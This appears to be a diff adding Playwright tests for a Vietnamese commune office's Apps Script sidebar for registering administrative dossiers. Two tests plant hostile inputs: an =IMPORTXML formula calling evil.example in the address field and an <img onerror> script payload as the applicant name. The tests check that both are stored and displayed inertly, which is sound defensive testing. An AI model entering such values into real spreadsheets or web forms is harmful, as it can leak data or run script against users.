@@ -1,0 +1,216 @@
+import { existsSync, mkdirSync, readFileSync } from 'node:fs';
+import { chromium, type Browser, type Page } from 'playwright-core';
+import { CLIENT_SHIM, serveCall } from '../../src/local/browserShim';
+import { REGISTER_COLUMNS, TABS } from '../../src/sheets/schema';
+import { submitIntake } from '../../src/server/intake';
+import { intakeInput, readyUnit } from '../helpers';
+
+const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
+const available = existsSync(CHROMIUM);
+if (!available && process.env.CI === 'true') {
+  throw new Error(`Chromium is required under CI=true but ${CHROMIUM} is missing (apt-get install chromium).`);
+}
+const SHOTS = 'reports/screenshots';
+const describeBrowser = available ? describe : describe.skip;
+
+describeBrowser('sidebars in Chromium', () => {
+  let browser: Browser;
+  beforeAll(async () => {
+    mkdirSync(SHOTS, { recursive: true });
+    browser = await chromium.launch({
+      executablePath: CHROMIUM,
+      args: [
+        '--lang=vi-VN',
+        '--no-sandbox',
+        '--disable-gpu',
+        '--disable-quic',
+        '--no-first-run',
+        '--disable-background-networking',
+        '--disable-component-update',
+        '--disable-sync',
+      ],
+    });
+  });
+  afterAll(async () => browser?.close());
+
+  /** Opens a built sidebar at 300 px with google.script.run wired to the local services. */
+  async function openSidebar(file: 'intake' | 'update', unit: ReturnType<typeof readyUnit>): Promise<Page> {
+    const page = await browser.newPage({
+      viewport: { width: 300, height: 1100 },
+      locale: 'vi-VN',
+      timezoneId: 'Asia/Ho_Chi_Minh',
+    });
+    await page.exposeFunction('__gasCall', (name: string, args: string) =>
+      serveCall(
+        (fn) => unit.world.run({ user: 'canbo@example.gov.vn', context: 'sidebar', spreadsheetId: unit.book.id }, fn),
+        name,
+        args,
+      ),
+    );
+    await page.addInitScript(CLIENT_SHIM);
+    // A real navigation (init scripts do not run for setContent), answered from dist/ without network.
+    const html = readFileSync(`dist/${file}.html`, 'utf8');
+    await page.route('**/*', (route) => route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: html }));
+    await page.goto(`http://sidebar.invalid/${file}.html`);
+    return page;
+  }
+
+  /** Waits until `read` gives a value that passes `check` (the dialog opens after an async call). */
+  async function eventually<T>(read: () => T, check: (value: T) => boolean): Promise<T> {
+    for (let i = 0; i < 100; i += 1) {
+      const value = read();
+      if (check(value)) return value;
+      await new Promise((r) => setTimeout(r, 50));
+    }
+    return read();
+  }
+
+  async function fitsSidebar(page: Page): Promise<void> {
+    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(300);
+  }
+
+  const registerRows = (unit: ReturnType<typeof readyUnit>) =>
+    unit.run((_s, ss) => {
+      const sheet = ss.getSheetByName(TABS.register)!;
+      return sheet.getLastRow() < 2
+        ? []
+        : sheet.getRange(2, 1, sheet.getLastRow() - 1, REGISTER_COLUMNS.length).getDisplayValues();
+    });
+
+  it('takes in a dossier end to end: search, live appointment, one submit even on a double click', async () => {
+    const unit = readyUnit();
+    const page = await openSidebar('intake', unit);
+    await page.getByText('UBND xã Yên Lạc (000.17.22.H56)').waitFor();
+    await page.getByLabel('Thủ tục hành chính').fill('thuong tru');
+    await page.getByRole('option', { name: /Đăng ký thường trú/ }).click();
+    await page.getByLabel('Thời điểm tiếp nhận').fill('2026-03-02T08:30');
+    await expect(page.locator('#appointment').textContent()).resolves.toBe('Hẹn trả: 17 giờ 00, ngày 11/03/2026');
+    await page.getByLabel('Họ và tên người nộp').fill('Nguyễn Thị Hoa');
+    await page.getByLabel('Số CCCD / CMND / hộ chiếu').fill('001099012345');
+    await page.getByLabel('Địa chỉ').fill('=IMPORTXML("http://evil.example","//a")');
+    await page.getByLabel('Điện thoại').fill('+84 912 345 678');
+    await page.getByLabel('Giấy tờ đã nhận').fill('Tờ khai thay đổi thông tin cư trú');
+    await page.screenshot({ path: `${SHOTS}/intake-form.png`, fullPage: true });
+    await fitsSidebar(page);
+    await page.getByRole('button', { name: 'Tiếp nhận hồ sơ' }).dblclick();
+    await page.getByText('Đã tiếp nhận hồ sơ 000.17.22.H56-260302-0001').waitFor();
+    await expect(page.getByText('Hẹn trả: 17 giờ 00, ngày 11/03/2026').last().isVisible()).resolves.toBe(true);
+    await page.screenshot({ path: `${SHOTS}/intake-done.png`, fullPage: true });
+    const rows = registerRows(unit);
+    expect(rows).toHaveLength(1);
+    expect(rows[0]![REGISTER_COLUMNS.indexOf('Mã hồ sơ')]).toBe('000.17.22.H56-260302-0001');
+    expect(rows[0]![REGISTER_COLUMNS.indexOf('Hạn trả kết quả')]).toBe('11/03/2026 17:00');
+    expect(rows[0]![REGISTER_COLUMNS.indexOf('Địa chỉ')]).toBe('=IMPORTXML("http://evil.example","//a")');
+
+    // The receipt dialog (Mẫu 01), as the print button opens it.
+    await page.getByRole('button', { name: 'In giấy tiếp nhận (Mẫu 01)' }).click();
+    expect(
+      await eventually(
+        () => unit.world.ui.dialogs.length,
+        (n) => n > 0,
+      ),
+    ).toBe(1);
+    const dialog = unit.world.ui.dialogs[0]!;
+    expect(dialog.title).toBe('GIẤY TIẾP NHẬN HỒ SƠ VÀ HẸN TRẢ KẾT QUẢ');
+    const receipt = await browser.newPage({ viewport: { width: 560, height: 800 } });
+    await receipt.setContent(dialog.content);
+    await expect(receipt.getByText('17 giờ 00, ngày 11/03/2026').isVisible()).resolves.toBe(true);
+    await expect(receipt.getByText('=IMPORTXML("http://evil.example","//a")').isVisible()).resolves.toBe(true);
+    expect(await receipt.locator('svg').count()).toBe(1);
+    await receipt.screenshot({ path: `${SHOTS}/receipt-mau01.png`, fullPage: true });
+    await receipt.close();
+    await page.close();
+  });
+
+  it('shows Vietnamese field errors, from the form and from the server, and keeps what was typed', async () => {
+    const unit = readyUnit();
+    const page = await openSidebar('intake', unit);
+    await page.getByText('UBND xã Yên Lạc (000.17.22.H56)').waitFor();
+    await page.getByLabel('Điện thoại').fill('abc');
+    await page.getByRole('button', { name: 'Tiếp nhận hồ sơ' }).click();
+    await page.getByText('Hãy chọn thủ tục hành chính.').waitFor();
+    await expect(page.getByText('Cần ghi họ và tên người nộp.').isVisible()).resolves.toBe(true);
+    await expect(page.getByText('Số điện thoại không đúng (ví dụ 0912 345 678 hoặc +84 912 345 678).').isVisible()).resolves.toBe(
+      true,
+    );
+    await page.screenshot({ path: `${SHOTS}/intake-errors.png`, fullPage: true });
+    // The server refuses a receipt time in the future, which the form cannot know.
+    await page.getByLabel('Thủ tục hành chính').fill('khai sinh');
+    await page.getByRole('option', { name: /Đăng ký khai sinh/ }).click();
+    await page.getByLabel('Họ và tên người nộp').fill('Trần Văn Bình');
+    await page.getByLabel('Điện thoại').fill('0912345678');
+    await page.getByLabel('Thời điểm tiếp nhận').fill('2026-03-02T16:00');
+    await page.getByRole('button', { name: 'Tiếp nhận hồ sơ' }).click();
+    await page.getByText('Thời điểm tiếp nhận không được sau thời điểm hiện tại.').waitFor();
+    await expect(page.getByLabel('Họ và tên người nộp').inputValue()).resolves.toBe('Trần Văn Bình');
+    expect(registerRows(unit)).toHaveLength(0);
+    await page.close();
+  });
+
+  it('requests a supplement and then apologises with a new date, offering each printed form', async () => {
+    const unit = readyUnit();
+    const created = unit.run((s) => submitIntake(s, intakeInput({ applicantName: '<img src=x onerror="window.hacked=1">' })));
+    if (!created.ok) throw new Error('intake failed');
+    unit.run((_s, ss) => (ss as unknown as { select(tab: string, a1: string): void }).select(TABS.register, 'B2'));
+    const page = await openSidebar('update', unit);
+    await page.getByText(created.code, { exact: true }).waitFor();
+    await expect(page.getByText('<img src=x onerror="window.hacked=1">').isVisible()).resolves.toBe(true);
+    expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined();
+
+    await page.getByLabel('Thao tác').selectOption({ label: 'Yêu cầu bổ sung hồ sơ' });
+    await page.getByLabel('Thời điểm').fill('2026-03-02T09:00');
+    await page.getByLabel('Giấy tờ cần bổ sung').fill('Bản sao giấy khai sinh');
+    await page.getByLabel('Lý do').fill('Thiếu giấy tờ chứng minh quan hệ');
+    await page.screenshot({ path: `${SHOTS}/update-supplement.png`, fullPage: true });
+    await fitsSidebar(page);
+    await page.getByRole('button', { name: 'Ghi vào sổ' }).click();
+    await page.getByText(`Yêu cầu bổ sung hồ sơ: hồ sơ ${created.code} nay “Chờ bổ sung” (02/03/2026).`).waitFor();
+    await expect(page.getByRole('button', { name: /In Mẫu số 02/ }).isVisible()).resolves.toBe(true);
+
+    await page.getByLabel('Thao tác').selectOption({ label: 'Xin lỗi và hẹn lại' });
+    await page.getByLabel('Ngày giờ hẹn mới').fill('2026-03-16T17:00');
+    await page.getByLabel('Lý do').fill('Chờ người nộp bổ sung');
+    await page.getByRole('button', { name: 'Ghi vào sổ' }).click();
+    await page.getByText(/Xin lỗi và hẹn lại: hồ sơ .* nay “Chờ bổ sung”/).waitFor();
+    await expect(page.locator('#dNew').textContent()).resolves.toBe('17 giờ 00, ngày 16/03/2026');
+    await page.screenshot({ path: `${SHOTS}/update-apology.png`, fullPage: true });
+    await page.getByRole('button', { name: /In Mẫu số 04/ }).click();
+    expect(
+      await eventually(
+        () => unit.world.ui.dialogs.map((d) => d.title),
+        (t) => t.length > 0,
+      ),
+    ).toEqual(['PHIẾU XIN LỖI VÀ HẸN LẠI NGÀY TRẢ KẾT QUẢ']);
+    await page.close();
+  });
+
+  it('fails a call that passes a Date, as Apps Script does', async () => {
+    const unit = readyUnit();
+    const page = await openSidebar('update', unit);
+    const message = await page.evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          const run = (
+            window as unknown as {
+              google: {
+                script: {
+                  run: Record<string, (...a: unknown[]) => void> & {
+                    withFailureHandler(f: (e: Error) => void): Record<string, (...a: unknown[]) => void>;
+                  };
+                };
+              };
+            }
+          ).google.script.run;
+          run.withFailureHandler((e: Error) => resolve(e.message)).findDossier(new Date());
+        }),
+    );
+    expect(message).toBe('Invalid argument: parameters must be primitives, arrays or plain objects.');
+    await page.close();
+  });
+});
+
+if (!available) {
+  it('skips the browser tests: Chromium is not installed here (never skipped under CI=true)', () => {
+    expect(process.env.CI).not.toBe('true');
+  });
+}
